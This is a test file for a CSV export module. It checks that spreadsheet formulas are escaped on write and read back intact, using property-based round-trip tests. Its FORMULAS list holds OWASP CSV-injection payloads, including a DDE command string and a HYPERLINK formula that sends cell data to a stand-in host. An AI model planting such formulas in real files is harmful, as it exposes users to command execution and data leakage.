import {readFile} from 'node:fs/promises';
import path from 'node:path';
import fc from 'fast-check';
import {describe, expect, it} from 'vitest';
import {toRawFolder} from '../../network/core/master-data.ts';
import {readCsvFolder, writeCsvFolder} from '../../network/main.ts';
import {cellOf, textOf} from '../../platform/csv-cell.ts';
import {temporaryFolder} from '../support/temporary-folder.ts';

/** What spreadsheets run, hide or take for another cell, as published (OWASP, CSV Injection). */
const FORMULAS = [
  '=1+1',
  '=HYPERLINK("http://x.example/?"&A1,"ok")',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-1+1',
  '-2+3+cmd|calc!A0',
  '@SUM(1,2)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '  =1+1',
  "'=1+1",
  "''=1+1",
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  '-',
  '=',
];
const PLAIN = [
  ...['-5', '-0.5', '-1e-7', '-infinity', '2026-01-05T10:00:00.000Z', '12', '', 'BRG-6310-C4'],
  ...["'s-Hertogenbosch", "it's", 'a=b', '6205', "'", '{"a": "=1"}'],
];
const folder = temporaryFolder('csv-injection');

describe('CSV injection', () => {
  it.each(FORMULAS)('K1 %j is written so that no spreadsheet runs it, and read back as it was', (text) => {
    expect(cellOf(text)).toBe(`'${text}`);
    expect(textOf(cellOf(text))).toBe(text);
  });

  it.each(PLAIN)('K1 %j is written as it is: numbers stay numbers', (text) => {
    expect(cellOf(text)).toBe(text);
    expect(textOf(text)).toBe(text);
  });

  it('K1 any text comes back as it was, and no cell begins as a formula', () => {
    const nasty = fc.string({
      unit: fc.constantFrom("'", '=', '+', '-', '@', '\t', '\r', ' ', '1', 'a', '"', ','),
    });
    fc.assert(
      fc.property(fc.oneof(fc.string({unit: 'grapheme'}), nasty), (text) => {
        const cell = cellOf(text);
        expect(textOf(cell)).toBe(text);
        if (/^[=+\-@\t\r]/.test(cell)) expect(Number(cell)).not.toBeNaN();
      }),
      {numRuns: 5000},
    );
  });

  it('K1 a folder that is exported holds no formula and imports to the same cells', async () => {
    const names = FORMULAS.filter((text) => text.trim() === text);
    const raw = toRawFolder({
      part: names.map((name, no) => ({part_id: `P-${no}`, name, unit_cost_minor: 5, group_id: '=G'})),
    });
    await writeCsvFolder(folder, raw);
    const text = await readFile(path.join(folder, 'part.csv'), 'utf8');
    expect(text).not.toMatch(/(^|,)"?[=+@]/m);
    const back = await readCsvFolder(folder);
    expect(back.mistakes).toEqual([]);
    expect(back.raw['part']!.rows.map(({cells}) => cells)).toEqual(raw['part']!.rows.map(({cells}) => cells));
  });
});
